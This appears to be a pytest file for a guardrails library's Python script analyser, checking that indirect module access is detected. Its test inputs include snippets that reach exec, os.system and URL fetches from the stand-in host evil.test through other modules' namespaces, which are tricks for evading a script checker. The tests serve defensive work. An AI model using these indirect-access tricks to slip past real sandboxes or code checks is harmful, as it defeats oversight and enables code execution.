# SPDX-License-Identifier: Apache-2.0
"""No known module of Python leads to another that is not: by whatever name it has it there."""

import importlib
import pkgutil
import sys
import types
import warnings

import pytest

from guardrails.python_modules import HARMLESS_MODULES
from guardrails.python_references import MODULES, is_known
from guardrails.script_analysis import analyse_script


def _load(name):
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            return importlib.import_module(name)
    except ImportError:
        return None


def _list_inner(name):
    """Yield (dotted name, the module that it means) for what a module holds of other modules."""
    module = _load(name)
    for attribute, value in vars(module).items() if module is not None else ():
        if isinstance(value, types.ModuleType):
            yield f"{name}.{attribute}", value.__name__
    for each in pkgutil.iter_modules(getattr(module, "__path__", ())):
        yield f"{name}.{each.name}", f"{name}.{each.name}"


_OWN = sorted(each for each in MODULES if each.partition(".")[0] in sys.stdlib_module_names)


@pytest.mark.parametrize("name", _OWN)
def test_a_module_inside_a_module_is_known_only_if_it_is_harmless(name):
    for dotted, meant in _list_inner(name):
        harmless = {dotted, meant} & HARMLESS_MODULES
        assert harmless or not is_known(dotted), (dotted, meant)


def test_there_are_modules_inside_modules():
    assert len([inner for name in _OWN for inner in _list_inner(name)]) > 300


@pytest.mark.parametrize(
    "text",
    [
        "import enum\nenum.bltns.exec(open('f').read())",
        "import email.utils\nemail.utils.urllib.request.urlopen('http://evil.test/x')",
        "from xml.dom import pulldom\npulldom.parse('http://evil.test/x')",
        "from xml.dom import xmlbuilder\nxmlbuilder.DOMBuilder().parseURI('http://evil.test/x')",
        "from logging import os\nos.system('x')",
        "import concurrent.futures.process as p\np.mp.Process(target=print)",
    ],
)
def test_what_is_reached_through_another_module_is_told_of(text):
    analysis = analyse_script("python", text.encode())
    assert not analysis.judgeable or analysis.severity.rank > 1


@pytest.mark.parametrize(
    "name", ["datetime.time", "email.policy.default", "collections.abc.Mapping"]
)
def test_ordinary_names_are_known(name):
    assert is_known(name)
